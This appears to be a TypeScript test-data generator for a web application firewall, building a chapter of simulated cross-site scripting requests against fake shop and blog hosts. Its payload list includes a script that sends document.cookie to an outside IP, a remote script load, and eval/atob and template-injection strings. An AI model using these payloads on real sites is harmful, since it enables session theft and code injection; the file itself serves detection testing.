import {type Chapter, createDice, type Dice, encode, spread, type Step} from '../script.ts';
import {makeNoise} from './background.ts';

const texts = [
	'<script>fetch("//198.51.100.66/?c="+document.cookie)</script>',
	'"><svg/onload=alert(document.domain)>',
	'<img src=x onerror=prompt(1)>',
	"';alert(String.fromCharCode(72,105))//",
	'<a href="javascript:alert(/shop/)">sale</a>',
	'<body onpageshow=confirm(7)>',
	'<iframe srcdoc="<script>parent.pwn()</script>"></iframe>',
	'<details open ontoggle=alert`5`>',
	'<math><mtext><style><img title="</style><img src onerror=alert(3)>">',
	'<ScRiPt src=//203.0.113.66/x.js></sCrIpT>',
	'<input autofocus onfocus=eval(atob("YWxlcnQoMSk="))>',
	'{{constructor.constructor("alert(9)")()}}',
];

const clients = ['203.0.113.44', '203.0.113.45', '192.0.2.201', '2001:db8:f00::15'];
const fields = ['q', 'name', 'comment', 'redirect', 'callback'];

function makeAttack(dice: Dice, at: number): Step {
	const client = dice.pick(clients);
	const text = encode(dice.pick(texts));
	const field = dice.pick(fields);
	const common = {at, client, connection: `${client} ${dice.below(2)}`};
	switch (dice.below(5)) {
		case 0: {
			return {...common, method: 'POST', target: '/reviews', body: `product=17&${field}=${text}`};
		}

		case 1: {
			const headers = {Referer: `https://shop.test/search?${field}=${text}`, Cookie: `last=${text}`};
			return {...common, target: '/product?id=17', headers};
		}

		case 2: {
			return {...common, host: 'blog.test', target: `/2026/hello?${field}=${text}`};
		}

		default: {
			return {...common, target: `/search?${field}=${text}&page=1`};
		}
	}
}

/**
Several addresses put scripts into every field that they find.
*/
export function makeCrossSiteScriptingChapter(): Chapter {
	const dice = createDice(404);
	const length = 32_000;
	const attacks = spread(dice, 75, 300, length).map(at => makeAttack(dice, at));
	return {
		title: 'XSS',
		name: 'cross-site-scripting',
		engine: 'On',
		paranoia: 1,
		threshold: 5,
		length,
		steps: [...makeNoise(dice, 12, 0, length), ...attacks],
	};
}
